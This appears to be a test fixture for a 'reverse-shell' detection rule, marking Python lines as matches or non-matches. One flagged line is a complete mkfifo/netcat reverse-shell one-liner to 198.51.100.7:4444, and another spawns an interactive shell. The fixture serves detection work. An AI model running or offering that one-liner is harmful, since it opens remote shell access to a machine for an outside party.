# ruleid: reverse-shell
os.system("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f")
# ruleid: reverse-shell
pty.spawn("/bin/sh")
# ok: reverse-shell
subprocess.run(["nc", "-z", "localhost", "5432"])
# ok: reverse-shell
os.system("mkfifo /tmp/queue")
